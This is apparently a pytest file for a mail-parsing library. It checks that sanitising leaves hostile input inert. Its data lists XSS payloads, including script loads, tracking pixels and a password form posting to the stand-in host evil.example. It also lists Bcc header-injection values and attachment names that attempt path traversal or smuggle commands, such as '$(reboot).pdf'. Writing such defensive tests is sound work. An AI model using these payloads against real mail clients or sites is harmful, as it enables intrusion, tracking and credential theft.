"""Attacks by mail, row by row: what would run, fetch, steer a terminal or forge a header field stays inert."""

import re

import lxml.html
import pytest

from maild.mime.clean import clean
from maild.mime.headers import clean_header
from maild.mime.names import MAX_NAME
from maild.mime.parse import parse

HARMLESS_SCHEMES = ("http:", "https:", "mailto:", "tel:")
HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:logo' onload='alert(1)'>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x' src=cid:a>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example' target=_blank ping='https://evil.example/p'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/b);position:fixed'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<form action=https://evil.example/ method=post><input name=password><button>OK</button></form>",
    "<button formaction=https://evil.example/>x</button>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<video src=https://evil.example/v poster=//evil.example/p onplay=alert(1)></video><audio src=//x.example>",
    "<body background=https://evil.example/b onload=alert(1)>",
    "<table background=https://evil.example/b><tr><td background=https://evil.example/b>x</table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=submit class=primary name=nonce onclick=alert(1)>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_of_strangers_does_nothing(attack: str) -> None:
    safe = parse(f"Content-Type: text/html; charset=utf-8\n\n<p>words</p>{attack}".encode()).html_safe
    assert "words" in safe
    for element in lxml.html.fragment_fromstring(safe, create_parent="div").iter():
        assert isinstance(element.tag, str), "a comment or an instruction"
        assert element.tag not in (
            "script",
            "style",
            "link",
            "meta",
            "base",
            "form",
            "input",
            "button",
            "iframe",
            "svg",
        )
        assert not {"style", "class", "id", "name", "background", "srcset", "poster", "ping"} & set(element.attrib)
        assert [name for name in element.attrib if name.startswith("on")] == []
        assert element.get("href", "https:").startswith(HARMLESS_SCHEMES)
        assert element.get("src", "cid:").startswith("cid:")


def test_clean_html_stays_as_it_is_when_cleaned_again() -> None:
    for attack in HTML_ATTACKS:
        once = clean(attack)
        assert clean(once) == once


@pytest.mark.parametrize(
    "field",
    [
        "Subject: =?utf-8?Q?hi=0D=0ABcc:_victim@v.example?=",
        "Subject: =?utf-8?B?aGkNCkJjYzogdmljdGltQHYuZXhhbXBsZQ==?=",
        "Subject: hi\r Bcc: victim@v.example",
        "Subject: hi\x0bBcc: victim@v.example",
        "From: =?utf-8?Q?a=0D=0ABcc:_victim@v.example?= <a@firma.example>",
        'From: "a=?utf-8?Q?=0A?=Bcc: victim@v.example" <a@firma.example>',
        "Message-ID: <a=0D=0ABcc:victim@v.example>",
    ],
)
def test_a_value_from_a_mail_makes_no_new_header_field(field: str) -> None:
    mail = parse(f"{field}\r\n\r\nwords".encode())
    names = [name.lower() for name, _ in mail.headers]
    assert "bcc" not in names
    for value in (mail.subject, mail.author.name if mail.author else "", mail.message_id):
        assert not re.search(r"[\x00-\x1f\x7f\x85\u2028\u2029]", value)
        assert not re.search(r"[\r\n]", clean_header(value))


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\windows\\system32\\x.dll",
        "/etc/cron.d/x",
        "C:\\x.exe",
        "\\\\server\\share\\x",
        ".bashrc",
        "-rf",
        "a\x00.png",
        "a\r\nContent-Type: text/html",
        "invoice\u202egnp.exe",
        "in\u200bvoice.pdf",
        "．．／．．／etc／passwd",
        "con.txt",
        "NUL",
        "a" * 5000 + ".pdf",
        "ж" * 5000,
        "~root",
        "$(reboot).pdf",
        '"><script>.pdf',
        "",
        " ",
        "...",
    ],
)
def test_the_name_of_an_attachment_is_only_a_name(name: str) -> None:
    encoded = "".join(f"%{octet:02X}" for octet in name.encode())
    mail = parse(
        b"Content-Type: multipart/mixed; boundary=b\n\n--b\n\nwords\n--b\nContent-Type: application/pdf\n"
        b"Content-Disposition: attachment; filename*=utf-8''" + encoded.encode() + b"\n\nx\n--b--\n"
    )
    (file,) = mail.attachments
    assert 0 < len(file.name.encode()) <= MAX_NAME
    assert not re.search(r"[/\\<>:\"|?*\x00-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", file.name)
    assert file.name[0] not in ".-~ "
    assert file.name.partition(".")[0].lower() not in ("con", "nul")
